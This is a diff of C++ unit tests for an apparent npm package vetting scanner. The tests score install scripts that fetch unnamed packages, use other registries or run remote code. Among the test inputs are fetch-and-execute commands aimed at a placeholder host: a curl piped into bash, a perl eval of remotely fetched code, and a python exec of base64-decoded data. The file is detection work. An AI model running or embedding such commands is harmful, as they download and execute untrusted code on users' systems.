@@ -118,7 +118,8 @@ TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
     EXPECT_EQ(of_script("echo YWxlcnQ= | base64 -d", "S04"), 0);
     EXPECT_EQ(of_script("bash <<< \"$(curl -s https://h.invalid/x)\"", "S08"), 4.0);
     EXPECT_EQ(of_script("npm install https://h.invalid/x.tgz", "S08"), 3.0);
-    EXPECT_EQ(of_script("npm install left-pad --registry https://h.invalid", "S08"), 0);
+    EXPECT_EQ(of_script("npm install left-pad --registry https://h.invalid", "S08"), 3.0);
+    EXPECT_EQ(of_script("npm install --registry https://registry.npmjs.org/", "S08"), 0);
     EXPECT_EQ(of_script("perl -e 'use LWP::Simple; eval get(\"http://h.invalid\")'", "S08"), 3.0);
     EXPECT_EQ(of_script("perl -e 'print 1'", "S08"), 0);
     EXPECT_EQ(of_script("python3 -c \"import base64;exec(base64.b64decode('YQ=='))\"", "S04"), 4.0);
@@ -133,6 +134,34 @@ TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
                                   {{"install", "python3 s.py"}}),
                         "S03"),
               0);
+}
+
+TEST(VetEvasions, InstallScriptsFetchWhatNoManifestNames) {
+    const std::vector<std::string> scripts = {"npx other-thing",
+                                              "npx -y other-thing@1.2.3 --flag value",
+                                              "cross-env A=1 npx --package=other-thing other",
+                                              "npm exec -- other-thing",
+                                              "pnpm dlx @scope/other-thing",
+                                              "yarn dlx -p other-thing other",
+                                              "bunx other-thing",
+                                              "npm install --no-save other-thing",
+                                              "pnpm add other-thing@latest",
+                                              "test -d node_modules/x || npm i other-thing"};
+    const auto weight = [](const std::string& name, const std::string& script) {
+        return weight_of(read_made({{"index.js", "1"}}, {{name, script}}), "S08");
+    };
+    for (const std::string& script : scripts) {
+        EXPECT_EQ(weight("postinstall", script), 1.0) << script;
+        EXPECT_EQ(weight("prepare", script), 0) << script << ": a package of the registry does not run it";
+    }
+    for (const std::string script :
+         {"npx --no-install other-thing", "npx ./local.js", "npm run other-thing", "npm install", "npm ci", "npx $TOOL",
+          "pnpm exec other-thing", "npm install ./sub", "echo npx other-thing", "yarn"})
+        EXPECT_EQ(weight("postinstall", script), 0) << script;
+    const std::string manifest =
+        R"({"name": "a", "version": "1.0.0", "dependencies": {"other-thing": "1"}, "bin": {"mine": "x.js"},)"
+        R"( "scripts": {"postinstall": "npx other-thing && npx mine"}})";
+    EXPECT_EQ(weight_of(read_made({{"index.js", "1"}, {"package.json", manifest}}), "S08"), 0);
 }
 
 TEST(VetEvasions, WhatAPackageBringsAlongIsInstalledToo) {
